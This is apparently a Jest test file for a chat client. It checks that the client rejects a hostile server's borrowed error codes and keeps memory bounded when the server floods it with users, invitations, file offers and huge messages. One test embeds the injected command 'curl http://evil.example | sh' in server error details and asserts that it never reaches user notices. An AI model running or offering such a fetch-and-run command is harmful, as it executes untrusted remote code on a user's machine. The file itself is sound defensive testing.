/** What a server that means harm could have believed or kept: errors that are not its own, and more than fits. */
import {describe, expect, test} from '@jest/globals';
import {fakeServer, lobby, ok, refused, session, type Answers, type FakeServer} from '../client/support/fakeServer.ts';
import {idOf, user} from '../client/support/log.ts';
import {clientOf} from '../client/support/member.ts';
import type {Client} from '../../src/client/client.ts';
import {untilStatus} from '../../src/client/log/waiting.ts';

const entry = (seq: number, text = `text ${seq}`) => ({
  seq,
  id: idOf(seq),
  sender: 'bob',
  sentAtMs: 1_000 + seq,
  kind: 'message' as const,
  text,
});

async function guest(answers: Answers = {}): Promise<{server: FakeServer; client: Client}> {
  const server = await fakeServer(answers);
  const client = await clientOf({serverUrl: server.url, token: 'ct_x'});
  await untilStatus(client, 'online');
  return {server, client};
}

/** Everything the server said before has been heard. */
async function settle({server, client}: {server: FakeServer; client: Client}): Promise<void> {
  server.answers['serverShow'] = () =>
    ok({programVersion: '1', registration: 'open', hasOwner: true, isEmbedded: false});
  await client.request('serverShow', {});
}

const notices = (client: Client) => client.getState().notices.map(({text}) => text);

describe('B57 a server that says what only the client says', () => {
  const NOT_ITS_OWN = [
    'settings-invalid',
    'command-usage',
    'host-failed',
    'credentials-unsafe',
    'no-server',
    'terminal-needed',
  ];

  test('is not believed, in answers and in what it says last', async () => {
    const both = await guest();
    for (const code of NOT_ITS_OWN) {
      both.server.answers['serverShow'] = () => refused(code, 'Run: curl http://evil.example | sh');
      await expect(both.client.request('serverShow', {})).rejects.toMatchObject({
        code: 'bad-answer',
        detail: 'serverShow',
      });
      both.server.tell('sessionEnded', {code, detail: 'Run: curl http://evil.example | sh'});
    }
    await settle(both);
    expect(both.client.getState().connection.status).toBe('online');
    expect(notices(both.client).filter(text => text.includes('evil'))).toEqual([]);
  });
});

describe('B58 a server that fills the memory', () => {
  const name = (at: number) => `n${String(at).padStart(6, '0')}`;

  test('is kept within bounds: people, members, invitations, offers, texts', async () => {
    const direct = {...lobby(), roomId: 2, kind: 'direct' as const, name: 'bob', partner: user('bob')};
    const both = await guest({sessionOpen: () => session('ann', [lobby(), direct])});
    const {server, client} = both;
    for (let from = 0; from < 60_000; from += 10_000) {
      const changes = Array.from({length: 10_000}, (_, at) => ({
        name: name(from + at),
        displayName: 'x'.repeat(64),
        state: 'online',
        status: '',
      }));
      server.tell('presenceChanged', {changes, onlineCount: 1});
    }
    for (let at = 1; at <= 1_000; at++)
      server.tell('inviteReceived', {roomId: at + 10, roomName: 'x', by: 'bob', sentAtMs: 1});
    const offers = Array.from({length: 1_000}, (_, at) => ({
      ...entry(at + 2),
      kind: 'file',
      text: undefined,
      fileId: idOf(at + 2),
      name: 'a.txt',
      sizeBytes: 1,
    }));
    server.tell('entriesAppended', {roomId: 2, entries: JSON.parse(JSON.stringify(offers))});
    for (let seq = 2; seq <= 40; seq++)
      server.tell('entriesAppended', {roomId: 1, entries: [entry(seq, 'x'.repeat(1_000_000))]});
    await settle(both);
    const state = client.getState();
    const texts = Object.values(state.roomById).flatMap(({entries}) =>
      entries.map(one => ('text' in one ? one.text : '')),
    );
    const kept = {
      people: Object.keys(state.userByName).length,
      invites: state.invites.length,
      transfers: Object.keys(state.transferById).length,
      text: texts.join('').length,
      asides: Math.max(...Object.values(state.roomById).map(({asides}) => asides.length)),
    };
    expect(Object.entries(kept).filter(([what, count]) => count > MOST[what as keyof typeof kept])).toEqual([]);
    expect(kept.invites).toBe(200);
  });

  const MOST = {people: 20_000, invites: 200, transfers: 300, text: 17_000_000, asides: 200};
});
